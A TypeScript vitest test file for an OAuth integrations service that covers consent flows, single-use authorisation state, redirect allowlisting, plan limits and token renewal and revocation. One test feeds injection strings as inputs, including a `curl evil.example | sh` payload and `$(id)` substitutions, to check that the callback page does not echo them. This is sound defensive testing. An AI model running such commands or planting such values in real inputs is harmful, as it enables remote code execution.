import { beforeEach, describe, expect, test } from 'vitest'
import { integrations } from '../../../functions/integrations/routes.ts'
import { CATALOGUE } from '../../../shared/deliver/integrations/catalogue/catalogue.ts'
import { connections } from '../../../shared/deliver/integrations/connection.ts'
import { openConnection } from '../../../shared/deliver/integrations/open-connection.ts'
import { CompleteInput, completeAuthorisation } from '../../../shared/deliver/integrations/complete-authorisation.ts'
import { StartInput, startAuthorisation } from '../../../shared/deliver/integrations/start-authorisation.ts'
import { apiKeys } from '../../../shared/identity/access/api-key.ts'
import { findKey } from '../../../shared/identity/access/key-view.ts'
import { users } from '../../../shared/identity/accounts/user.ts'
import { consent } from '../../support/consent.ts'
import { bodyOf, type Governed, governed, requestOf } from '../../support/governed.ts'
import { mailsTo } from '../../support/mailbox.ts'
import { useLocalStack } from '../../support/use-local-stack.ts'

const HOUR_MS = 3_600_000
const PARAMS: Record<string, object> = { zendesk: { subdomain: 'example' } }

const local = useLocalStack()
let acme: Governed
beforeEach(async () => {
  acme = await governed(local)
})

const start = async (id: string, body: object = {}) => {
  const params = PARAMS[id]
  return bodyOf(
    await acme.call(integrations.startAuth, { params: { id }, body: { ...(params && { params }), ...body } }),
    200,
  )
}
const complete = (id: string, body: object) => acme.call(integrations.completeAuth, { params: { id }, body })
const shown = async (id: string) => bodyOf(await acme.call(integrations.getConnector, { params: { id } }), 200)

/** Through the consent page. */
async function connect(id: string) {
  const { auth_url } = await start(id)
  const { code, state } = await consent(auth_url)
  return bodyOf(await complete(id, { code, state }), 200)
}

const stored = async (id: string) => {
  const found = await acme.ctx.table.get(connections, { ...acme.ctx.space, connector_id: id })
  if (!found) throw new Error('no connection')
  return found
}
const opened = (id: string) => openConnection(acme.ctx, id)
const tokenCalls = () => local.connect.calls().filter((one) => one.endsWith('/token')).length

describe('every provider of the catalogue', () => {
  test.for(CATALOGUE.map(({ id }) => id))('%s is connected through its consent page and answers calls', async (id) => {
    expect(await shown(id)).toMatchObject({ own: false, status: 'available', connection: null })
    const { auth_url, state } = await start(id)
    expect(await shown(id)).toMatchObject({ status: 'authorizing' })
    const returned = await consent(auth_url)
    expect(returned.location.href).toMatch(`${local.appUrl}/console/connected?`)
    expect(returned.state).toBe(state)
    const { code } = returned
    const told = await acme.told(async () => bodyOf(await complete(id, { code, state }), 200))
    expect(told.map(({ type }) => type)).toContain('integration.connected')
    expect(await shown(id)).toMatchObject({ status: 'active', connection: { id: expect.stringMatching(/^con_/) } })
    const connection = await opened(id)
    const answer = await fetch(`${connection?.base_url}/anything/1`, { headers: { ...connection?.headers } })
    expect(answer.status).toBe(200)
    const scopes = bodyOf(await acme.call(integrations.getScopes, { params: { id } }), 200)
    expect(scopes).toMatchObject({ missing: [] })
  })
})

describe('an authorisation', () => {
  test('is used once, within ten minutes, by whoever began it, for its connector', async () => {
    const { auth_url } = await start('github')
    const { code, state } = await consent(auth_url)
    const other = await governed(local)
    const refusals = [
      await complete('gitlab', { code, state }),
      await complete('github', { code, state: 'unknown' }),
      await other.call(integrations.completeAuth, { params: { id: 'github' }, body: { code, state } }),
      await acme.as('approver').call(integrations.completeAuth, { params: { id: 'github' }, body: { code, state } }),
    ]
    bodyOf(await complete('github', { code, state }), 200)
    refusals.push(await complete('github', { code, state }))
    const { state: late } = await start('github')
    local.clock.moveTo(local.clock.now() + 600_000)
    refusals.push(await complete('github', { code, state: late }))
    expect(
      new Set(
        refusals
          .filter(({ status }) => status !== 403)
          .map(({ status, body }) => `${status} ${JSON.stringify(body.detail)}`),
      ).size,
    ).toBe(1)
    expect(refusals[0]).toMatchObject({ status: 400, body: { code: 'invalid_state' } })
  })

  test('of ten completions at once, one succeeds', async () => {
    const { auth_url } = await start('github')
    const { code, state } = await consent(auth_url)
    const replies = await Promise.all(Array.from({ length: 10 }, () => complete('github', { code, state })))
    expect(replies.map(({ status }) => status).toSorted((a, b) => a - b)).toEqual([
      200,
      ...Array.from({ length: 9 }, () => 400),
    ])
  })

  test('that the person denies is an error, and what is connected stays', async () => {
    const denied = async () => {
      const { auth_url } = await start('gitlab')
      const { error, state } = await consent(auth_url, 'deny')
      return complete('gitlab', { error, state })
    }
    expect(await denied()).toMatchObject({
      status: 400,
      body: { code: 'provider_refused', provider_error: 'access_denied' },
    })
    expect(await shown('gitlab')).toMatchObject({ status: 'error' })
    await connect('gitlab')
    expect((await denied()).status).toBe(400)
    expect(await shown('gitlab')).toMatchObject({ status: 'active' })
  })

  test('with a code that the provider refuses is an error', async () => {
    for (const id of ['github', 'slack', 'hubspot', 'jira']) {
      const { state } = await start(id)
      expect(await complete(id, { code: 'wrong', state })).toMatchObject({
        status: 400,
        body: { code: 'provider_refused' },
      })
    }
  })

  test('sends people to known addresses only', async () => {
    const begin = (body: object) => acme.call(integrations.startAuth, { params: { id: 'zendesk' }, body })
    expect((await begin({ redirect_uri: 'https://evil.example/' })).status).toBe(422)
    expect((await begin({})).status).toBe(422)
    expect((await begin({ params: { subdomain: 'a.evil.example/' } })).status).toBe(422)
    expect((await begin({ params: { subdomain: 'a', other: 'b' } })).status).toBe(422)
  })

  test('may say what the connection is for', async () => {
    await start('gitlab', { purpose: 'triage', data_categories: ['issues'] })
    expect(await shown('gitlab')).toMatchObject({ purpose: 'triage', data_categories: ['issues'] })
    await start('gitlab')
    expect(await shown('gitlab')).toMatchObject({ purpose: 'triage' })
  })

  test('keeps the id of what is connected, and its secrets to itself', async () => {
    const first = await connect('jira')
    const told = await acme.told(async () => {
      expect(await connect('jira')).toMatchObject({ connection_id: first.connection_id })
    })
    const token = (await opened('jira'))?.headers.authorization?.slice('Bearer '.length) ?? ''
    expect(token).toMatch(/^access_/)
    expect(JSON.stringify([told, await shown('jira'), await stored('jira')])).not.toContain(token)
  })

  test('of the test mode asks nobody', async () => {
    const sandbox = await governed(local, undefined, { mode: 'test' })
    const before = local.connect.calls().length
    const { body } = await sandbox.call(integrations.startAuth, { params: { id: 'slack' }, body: {} })
    const url = new URL(body.auth_url)
    expect(`${url.origin}${url.pathname}`).toBe(`${local.appUrl}/console/connected`)
    const finish = (code: string) =>
      sandbox.call(integrations.completeAuth, { params: { id: 'slack' }, body: { code, state: body.state } })
    expect((await finish('another')).status).toBe(400)
    expect(await finish(url.searchParams.get('code') ?? '')).toMatchObject({ status: 200, body: { status: 'active' } })
    expect(local.connect.calls()).toHaveLength(before)
  })
})

describe('the page that providers send people back to', () => {
  const page = async (query: Record<string, string>) => {
    const answer = await fetch(`${local.appUrl}/console/connected?${new URLSearchParams(query).toString()}`)
    return { status: answer.status, text: await answer.text() }
  }

  test('shows how to complete, and completes nothing', async () => {
    const { auth_url, state } = await start('github')
    const { code = '' } = await consent(auth_url)
    const { status, text } = await page({ code, state })
    expect([status, text.includes(code), text.includes(state)]).toEqual([200, true, true])
    expect(text).toContain(`${local.apiUrl}/api/v1/integration-fabric/connectors/github/auth/complete`)
    expect(await shown('github')).toMatchObject({ status: 'authorizing' })
  })

  test.for([
    {},
    { state: 'github.s' },
    { state: 's', code: 'c' },
    { state: 'github.s', code: `'; curl evil.example | sh; '` },
    { state: `github.a' b`, code: 'c' },
    { state: '$(id).s', code: 'c' },
    { state: 'github.s', error: '$(id)' },
  ])('shows nothing to copy for %j', async (query) => {
    const { text } = await page(query as Record<string, string>)
    expect(text).toContain('Nothing to connect')
    expect(text).not.toMatch(/curl|evil|\$\(id/)
  })
})

test('a plan has room for so many connections, and a disconnected one leaves its place', async () => {
  acme = await governed(local, undefined, { plan: 'free' })
  await connect('github')
  await connect('gitlab')
  const { auth_url } = await start('slack')
  const { code, state } = await consent(auth_url)
  expect(await complete('slack', { code, state })).toMatchObject({ status: 403, body: { code: 'plan_limit' } })
  await connect('github')
  bodyOf(await acme.call(integrations.disconnect, { params: { id: 'gitlab' }, body: {} }), 200)
  await connect('slack')
})

describe('tokens', () => {
  test('are renewed before they end, once for ten calls', async () => {
    await connect('gitlab')
    const before = (await opened('gitlab'))?.headers.authorization
    local.clock.moveTo(local.clock.now() + HOUR_MS - 200_000)
    const asked = tokenCalls()
    const all = await Promise.all(Array.from({ length: 10 }, () => opened('gitlab')))
    expect(tokenCalls()).toBe(asked + 1)
    const now = new Set(all.map((one) => one?.headers.authorization))
    expect(now.size).toBe(1)
    expect([...now]).not.toEqual([before])
  })

  test('that the provider no longer renews are deleted, and a task and one mail ask to connect again', async () => {
    const { connection_id } = await connect('gitlab')
    local.connect.revoke((await opened('gitlab'))?.headers.authorization?.slice('Bearer '.length) ?? '')
    local.clock.moveTo(local.clock.now() + HOUR_MS)
    const told = await acme.told(async () => expect(await opened('gitlab')).toBeUndefined())
    expect(told).toContainEqual(
      expect.objectContaining({
        type: 'integration.disconnected',
        data: expect.objectContaining({ connection_id, reason: 'refresh_failed' }),
      }),
    )
    expect(await shown('gitlab')).toMatchObject({ status: 'needs_reauth' })
    expect(await opened('gitlab')).toBeUndefined()
    const letters = (await mailsTo(local, acme.owner.email)).filter(({ kind }) => kind === 'connection_lost')
    expect(letters).toMatchObject([{ subject: 'Connect gitlab again' }])
    const { sealed, task_id } = await stored('gitlab')
    expect([sealed, task_id]).toEqual([undefined, expect.stringMatching(/^tsk_/)])
    expect(await connect('gitlab')).toMatchObject({ connection_id })
    expect(await stored('gitlab')).not.toHaveProperty('task_id')
  })

  const suspend = async (id: string) => {
    const user = await acme.ctx.table.get(users, { tenant_id: acme.tenant_id, id })
    if (!user) throw new Error('no such person')
    await acme.ctx.table.commit([users.replace({ ...user, status: 'suspended' }, user)])
  }

  const revokedThere = (revoked_at_provider: boolean) =>
    expect.objectContaining({
      type: 'integration.disconnected',
      data: expect.objectContaining({ reason: 'revoked', revoked_at_provider }),
    })

  test('of a person who has left end at the provider, where it can be told', async () => {
    await connect('gitlab')
    const headers = { ...(await opened('gitlab'))?.headers }
    const { base_url = '' } = (await opened('gitlab')) ?? {}
    await suspend(acme.owner.id)
    const told = await acme.told(async () => expect(await opened('gitlab')).toBeUndefined())
    expect(told).toContainEqual(revokedThere(true))
    expect((await fetch(`${base_url}/x`, { headers })).status).toBe(401)
  })

  test('of a person who has left are no longer used, whomever the row names', async () => {
    const person = requestOf(acme, acme.approver.id)
    const { auth_url } = await startAuthorisation(person, 'github', StartInput.parse({}))
    const { code, state } = await consent(auth_url)
    await completeAuthorisation(person, 'github', CompleteInput.parse({ code, state }))
    expect(await opened('github')).toBeDefined()
    await suspend(acme.approver.id)
    const was = await stored('github')
    const connected_by = { type: 'user', id: acme.owner.id }
    await acme.ctx.table.commit([connections.replace({ ...was, connected_by }, was)])
    const told = await acme.told(async () => expect(await opened('github')).toBeUndefined())
    expect(told).toContainEqual(revokedThere(false))
    expect(await shown('github')).toMatchObject({ status: 'needs_reauth' })
    expect(await stored('github')).not.toHaveProperty('sealed')
  })

  test('that came with a key end with its maker, unless it belongs to the tenant', async () => {
    await connect('github')
    const { connected_by } = await stored('github')
    const key = await findKey(acme.ctx, connected_by?.id ?? '')
    await suspend(key.created_by)
    await acme.ctx.table.commit([apiKeys.replace({ ...key, service: true }, key)])
    expect(await opened('github')).toBeDefined()
    const service = await findKey(acme.ctx, key.id)
    await acme.ctx.table.commit([apiKeys.replace({ ...service, service: false }, service)])
    expect(await opened('github')).toBeUndefined()
  })

  test('end at the provider with the connection', async () => {
    await connect('gitlab')
    const headers = { ...(await opened('gitlab'))?.headers }
    const { base_url = '' } = (await opened('gitlab')) ?? {}
    const off = () => acme.call(integrations.disconnect, { params: { id: 'gitlab' }, body: {} })
    expect(await off()).toMatchObject({ status: 200, body: { revoked_at_provider: true } })
    expect((await fetch(`${base_url}/x`, { headers })).status).toBe(401)
    expect(await shown('gitlab')).toMatchObject({ status: 'disconnected', connection: null })
    expect(await opened('gitlab')).toBeUndefined()
    expect((await off()).status).toBe(409)
  })
})
